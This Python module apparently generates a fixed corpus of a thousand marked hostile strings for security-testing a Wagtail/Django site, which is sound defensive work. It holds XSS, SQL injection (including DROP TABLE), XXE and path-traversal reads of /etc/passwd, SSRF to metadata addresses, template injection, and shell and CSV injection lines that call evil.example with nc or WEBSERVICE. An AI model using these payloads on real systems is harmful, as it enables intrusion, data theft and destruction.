"""A thousand strings that somebody has used to break a site, each with a name that never changes.

`MARK` stands in nearly all of them, followed by the number of the string: whoever finds the mark in the wrong place of a
page (the name of an attribute, the text of a script) knows which string got through.
"""

from __future__ import annotations

import base64
import functools
import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

MARK = "zq"
COUNT = 1000


@dataclass(frozen=True)
class Hostile:
    """One string. `text` may hold lone surrogates: send it with `raw`."""

    number: int
    kind: str
    text: str

    @property
    def name(self) -> str:
        return f"{self.kind}-{self.number:04d}"

    @property
    def raw(self) -> bytes:
        """As bytes on the wire; what is not UTF-8 stays what it is."""
        return self.text.encode("utf-8", "surrogatepass")

    @property
    def read(self) -> str:
        """What a server that decodes as browsers do has read."""
        return self.raw.decode("utf-8", "replace")


# --- pieces ----------------------------------------------------------------------------------------------------------

_SCRIPTS = (
    "<script>alert('{m}')</script>",
    "<ScRiPt >alert(`{m}`)</sCrIpT >",
    "<script\n>alert('{m}')</script\n>",
    "<script/x>alert('{m}')</script>",
    "<<script>alert('{m}')//<</script>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "</script><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script><!--",
    "--!><script>alert('{m}')</script>",
    "<!--><script>alert('{m}')</script>-->",
    "]]><script>alert('{m}')</script><![CDATA[",
    "<script src=//evil.example/{m}.js></script>",
    "<script src=data:text/javascript,alert('{m}')></script>",
    "<script type=module>import '//evil.example/{m}'</script>",
    '"><script>alert("{m}")</script>',
    "'><script>alert('{m}')</script>",
    "`><script>alert('{m}')</script>",
    "<script>/*{m}*/</script\u3000>",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "\ufe64script\ufe65alert('{m}')\ufe64/script\ufe65",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<svg><script>alert&#40'{m}')</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('{m}')&gt;\">",
    "<template><script>alert('{m}')</script></template>",
    "<iframe srcdoc=\"<script>parent.alert('{m}')</script>\"></iframe>",
    '<object data="data:text/html;base64,{b}"></object>',
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    "<base href=//evil.example/{m}/>",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    "<style>@import '//evil.example/{m}.css';</style>",
    "<form action=//evil.example/{m}><input name=csrfmiddlewaretoken><button>",
    "<x-{m} onclick=alert(1)>",
    "<?php echo '{m}'; ?>",
    "<%= '{m}' %>",
    "<![if true]><script>alert('{m}')</script><![endif]>",
)
_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "onpointerenter", "ontoggle", "onbegin",
    "onanimationstart", "oncontentvisibilityautostatechange", "ONERROR", "on\u0000error", "onerror\t", "onerror\x0c",
)  # fmt: skip
_CARRIERS = (
    "<img src=x {e}=alert('{m}')>",
    "<img/src=x/{e}=alert('{m}')>",
    "<svg {e}=alert('{m}')>",
    "<body {e}=alert('{m}')>",
    "<details open {e}=alert('{m}')>",
    "<input {e}=alert('{m}')>",
    "<video><source {e}=alert('{m}')></video>",
    "<a href=# {e}=alert('{m}')>a</a>",
    "\" {e}=alert('{m}') x=\"",
    "' {e}=alert('{m}') x='",
)
_SCHEMES = (
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "java\tscript:alert('{m}')",
    "java\nscript:alert('{m}')",
    "\x01javascript:alert('{m}')",
    " javascript:alert('{m}')",
    "\u00a0javascript:alert('{m}')",
    "javascript&colon;alert('{m}')",
    "javascript&#58;alert('{m}')",
    "&#106;avascript:alert('{m}')",
    "java&Tab;script:alert('{m}')",
    "javascript://%0aalert('{m}')",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert('{m}')>",
    "data:text/html,<script>alert('{m}')</script>",
    "data:text/html;base64,{b}",
    "data:image/svg+xml;base64,{b}",
    "vbscript:msgbox('{m}')",
    "file:///etc/passwd?{m}",
    "blob:http://localhost/{m}",
    "view-source:javascript:alert('{m}')",
    "//evil.example/{m}",
    "/\\evil.example/{m}",
    "https://evil.example\\@localhost/{m}",
    "http://[::1]/{m}",
    "http://[{m}",
    "/\t/evil.example/{m}",
    "https:evil.example/{m}",
    "http://169.254.169.254/latest/{m}",
    "http://0x7f000001/{m}",
    "http://2130706433/{m}",
    "gopher://127.0.0.1:6379/_{m}",
    "ｊａｖａｓｃｒｉｐｔ:alert('{m}')",
    "jav\u200bascript:alert('{m}')",
)
_LINKS = (
    "{u}",
    '<a href="{u}">{m}</a>',
    "<a href='{u}'>{m}</a>",
    '<iframe src="{u}">',
    '<form action="{u}"><button>',
)
_TEMPLATES = (
    "{{{{ 7*7 }}}}{m}", "{{% debug %}}{m}", "{{% load log %}}{{% get_admin_log 10 as x %}}{m}", "{{{{ settings.SECRET_KEY }}}}{m}",
    "{{{{ request.user.password }}}}{m}", "{{% include '/etc/passwd' %}}{m}", "{{% ssi '/etc/passwd' %}}{m}", "{{# {m} #}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{m}", "${{7*7}}{m}", "#{{7*7}}{m}", "<%= 7*7 %>{m}", "{{{{constructor.constructor('alert(1)')()}}}}{m}",
    "{{% verbatim %}}{m}", "{{% csrf_token %}}{m}", "{{% blocktranslate %}}{m}", "[[{{7*7}}]]{m}", "*{{7*7}}{m}", "@(7*7){m}", "{{php}}{m}{{/php}}",
)  # fmt: skip
_SQL = (
    "' OR '1'='1 {m}", "'; DROP TABLE channel_basepage;-- {m}", "\" OR 1=1 -- {m}", "') OR ('1'='1 {m}", "1; SELECT pg_sleep(9) {m}",
    "' UNION SELECT password FROM access_account -- {m}", "\\'; -- {m}", "%' AND 1=0 UNION {m} --", "x' AND randomblob(999999999)-- {m}",
    "NEAR({m} a, 5)", "\"{m}", "{m}*", "-{m}", "{m} AND OR NOT", "title:{m}", "^{m}", "({m}", "{m}\"\"\"", "' COLLATE NOCASE {m}", "$${m}$$",
)  # fmt: skip
_LDAP = (
    "*)(uid=*))(|(uid={m}", "*)(&{m}", "\\2a{m}", "admin)(!(&(1=0){m}", "(|(objectclass=*){m}", "*|{m}", "' or count(//*)>0 or '{m}", "]]|//*[{m}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{m}", "<!DOCTYPE l [<!ENTITY a '{m}'><!ENTITY b '&a;&a;&a;&a;'>]>&b;",
)  # fmt: skip
_PATHS = (
    "../../../etc/passwd{m}", "..\\..\\..\\windows\\win.ini{m}", "%2e%2e%2f%2e%2e%2f{m}", "..%252f..%252f{m}", "....//....//{m}", "/etc/passwd\x00.png{m}",
    "..%c0%af..%c0%af{m}", "\\\\evil.example\\share\\{m}", "CON{m}", "nul.txt{m}", "~root/{m}", "/proc/self/environ#{m}", "./././{m}", "{m}/.git/config",
)  # fmt: skip
_CRLF = (
    "{m}\r\nSet-Cookie: {m}=1", "{m}\nX-Injected: {m}", "{m}\rX-Injected: {m}", "{m}%0d%0aX-Injected: {m}", "{m}\r\n\r\n<script>alert(1)</script>",
    "{m}\u560a\u560dX-Injected: {m}", "{m}\u2028X-Injected: {m}", "{m}\u0085X-Injected: {m}", "{m}\x0bX-Injected: {m}", "{m}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "{m}\nBcc: everybody@evil.example", "{m}\r\n.\r\nMAIL FROM:<{m}@evil.example>",
)  # fmt: skip
_UNICODE = (
    "\u202e{m}gnp.exe", "\u2066\u202e{m}\u2069", "{m}\u200b\u200c\u200d\u2060\ufeff", "\ufeff{m}", "{m}\ufffe\uffff", "{m}\U0001ffff",
    "{m}\ud800", "\udfff{m}", "\ud83d{m}\ude00", "{m}👨‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚀", "{m}𝕊𝕔𝕣𝕚𝕡𝕥", "{m}ﷺ﷽", "Z̴̛̺a̶͓̽l̶̙͝g̷̱͌o̵͎͂{m}", "{m}\u0301\u0301\u0301\u0301\u0301",
    "ⅳ㎏ﬁ①{m}", "{m}ＡＤＭＩＮ", "аdmin{m}", "{m}ıİſK", "{m}\u00ad\u034f\u115f\u1160\u17b4\u3164", "{m}\U000e0041\U000e007f", "{m}𠮷野家𰻞麵", "{m}\ue000\uf8ff", "\u3000{m}\u3000",
    "{m}\u061c\u200e\u200f", "{m}\u2063\u2064", "\x7f{m}\x80\x9f", "{m}\u0000", "\x00{m}", "{m}\x00\x00<b>", "\x1b[31m{m}\x1b[0m", "{m}\x08\x08\x08rm -rf", "{m}\x1a", "{m}\t\x0b\x0c",
)  # fmt: skip
_NUMBERS = (
    "9e999", "-9e999", "1e-999", "NaN", "Infinity", "-0", "0x7fffffffffffffff", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999999999",
    "1_000", "٣", "½", "１２３", "1,000", "0b1", "1e1000000000", "00000000000000000001", "²", "-",
)  # fmt: skip
_FORMATS = (
    "%s%s%s%n{m}", "%(title)s{m}", "%{m}", "{{0.__class__}}{m}", "{{title.__init__.__globals__}}{m}", "{{:>999999999}}{m}", "%99999999d{m}", "$(id){m}", "`id`{m}", "; sleep 9 #{m}",
    "| nc evil.example 1 {m}", "&& {m}", "${{jndi:ldap://evil.example/{m}}}", "!!python/object/apply:os.system ['{m}']", "__import__('os').system('{m}')", "{{}}{m}", "{{{{{m}", "}}}}{m}", "%%{m}%", "\\u003cscript\\u003e{m}",
)  # fmt: skip
_WAGTAIL = (
    '<embed embedtype="media" url="http://127.0.0.1:9/{m}"/>', '<embed embedtype="image" id="1" format="left" alt="{m}"/>', '<embed embedtype="image" id="99999999999999999999" alt="{m}"/>',
    '<embed embedtype="{m}" id="1"/>', '<a linktype="page" id="1">{m}</a>', '<a linktype="page" id="999999999999999999999">{m}</a>', '<a linktype="page" id="{m}">x</a>', '<a linktype="document" id="1">{m}</a>',
    '<a linktype="{m}" id="1">x</a>', '<a linktype="external" href="javascript:alert(\'{m}\')">x</a>', '<a linktype="page" id="1" onclick="alert(\'{m}\')">x</a>', '<a linktype="page" id="1" parent_id="1" href="javascript:alert(\'{m}\')">x</a>',
    '<p data-block-key="{m}">x</p>', '<h1 id="{m}">x</h1>', '<embed embedtype="media" url="https://www.youtube.com/watch?v={m}"/>', '<a href="/documents/1/{m}">x</a>', '<div class="responsive-object" style="x:{m}">', "<wagtail-userbar>{m}</wagtail-userbar>",
)  # fmt: skip
_JSON = (
    '{{"{m}":', '[[[[[[{m}', '{{"type":"text","value":"<script>alert(\'{m}\')</script>"}}', '[{{"type":"text","value":{{"$ref":"{m}"}},"id":"x"}}]', '{{"blocks":[{{"text":"{m}","type":"unstyled"}}],"entityMap":{{}}}}',
    '{{"__proto__":{{"{m}":1}}}}', '"{m}', "null//{m}", '[{{"type":"no-such-{m}","value":1}}]', '{{"_type":"RawHTML","_args":["<script>{m}"]}}', "{{'{m}': 1}}", '\\"{m}\\', '[{{"type":"raw_html","value":"<script>{m}</script>"}}]', '{{"a":1,"a":"{m}"}}',
)  # fmt: skip
_CSV = (
    "=cmd|' /C calc'!A0{m}", "+cmd|' /C calc'!A0{m}", "-2+3+cmd|' /C calc'!A0{m}", "@SUM(1+9)*cmd|' /C calc'!A0{m}", "\t=1+1{m}", "\r=1+1{m}", '=HYPERLINK("http://evil.example/{m}","x")', '=IMPORTXML(CONCAT("http://evil.example/{m}",A1),"//a")',
    "=WEBSERVICE(\"http://evil.example/{m}\")", "；=1+1{m}", '","=1+1{m}', "\u202f=1+1{m}", "＝1+1{m}", "%0A=1+1{m}", "=DDE(\"cmd\";\"/C calc\";\"{m}\")", "\ufeff=1+1{m}",
)  # fmt: skip


# --- a thousand of them ----------------------------------------------------------------------------------------------


def _attribute(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(char):06x}" for char in text)


#: Other ways to write the same thing; the first is as it is.
_WRITTEN: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: quote(text, safe="", errors="replace"),
    _attribute,
    _hex,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: "值守记录" + text + "十四天",
    lambda text: text.upper(),
    lambda text: quote(quote(text, safe="", errors="replace"), safe=""),
)


def _long(number: int) -> str:
    seed = f"{MARK}{number:04d}"
    shapes = (
        lambda: seed + "长" * 100_000,
        lambda: seed + "<b>" * 33_000,
        lambda: seed + "\u0301" * 50_000,
        lambda: seed + "👩‍👧" * 12_000,
        lambda: "[" * 50_000 + seed,
        lambda: '{"a":' * 20_000 + f'"{seed}"' + "}" * 20_000,
        lambda: seed + "a" * 100_000 + "!",
        lambda: (seed + "\n") * 12_000,
        lambda: seed + " " * 100_000 + "x",
        lambda: "<a href='" + "x" * 100_000 + f"'>{seed}",
        lambda: "&" * 100_000 + seed,
        lambda: seed + "\\" * 100_000,
        lambda: "[" * 400 + f'"{seed}"' + "]" * 400,
        lambda: seed + "é".encode().decode("latin-1") * 40_000,
    )
    return shapes[number % len(shapes)]()


def _patterns() -> Iterator[tuple[str, str]]:
    """Kind and pattern, the kinds mixed so that the first hundred hold some of each."""
    kinds: dict[str, list[str]] = {
        "script": list(_SCRIPTS),
        "event": [
            one.replace("{e}", event) for one, event in itertools.product(_CARRIERS, _EVENTS)
        ],
        "address": [one.replace("{u}", url) for url, one in itertools.product(_SCHEMES, _LINKS)],
        "template": list(_TEMPLATES), "sql": list(_SQL), "ldap": list(_LDAP), "path": list(_PATHS), "header": list(_CRLF),
        "unicode": list(_UNICODE), "number": list(_NUMBERS), "format": list(_FORMATS), "wagtail": list(_WAGTAIL),
        "json": list(_JSON), "csv": list(_CSV), "long": [""] * 14,
    }  # fmt: skip
    rows = {kind: iter(patterns) for kind, patterns in kinds.items()}
    while rows:
        for kind in list(rows):
            pattern = next(rows[kind], None)
            if pattern is None:
                del rows[kind]
            else:
                yield kind, pattern
    again = ("script", "address", "wagtail", "template", "header", "csv", "json", "sql", "format")
    for written in range(1, len(_WRITTEN)):
        for kind in again:
            for pattern in kinds[kind]:
                yield f"{kind}~{written}", pattern


def _made(number: int, kind: str, pattern: str) -> Hostile:
    if kind == "long":
        return Hostile(number, kind, _long(number))
    mark = f"{MARK}{number:04d}"
    code = base64.b64encode(f"<svg onload=alert('{mark}')>".encode()).decode()
    if kind in ("template", "format", "json") or kind.partition("~")[0] in ("template", "format", "json"):
        pattern = pattern.replace("{{", "\x11").replace("}}", "\x12")
    text = pattern.replace("{m}", mark).replace("{b}", code).replace("\x11", "{").replace("\x12", "}")
    kind, _sign, written = kind.partition("~")
    return Hostile(number, kind, _WRITTEN[int(written or 0)](text))


@functools.cache
def strings(count: int = COUNT) -> tuple[Hostile, ...]:
    """The first `count` of them: the same ones every time."""
    found: list[Hostile] = []
    seen: set[str] = set()
    for kind, pattern in _patterns():
        one = _made(len(found) + 1, kind, pattern)
        if one.text in seen:
            continue
        seen.add(one.text)
        found.append(one)
        if len(found) == count:
            return tuple(found)
    raise AssertionError(f"only {len(found)} strings")
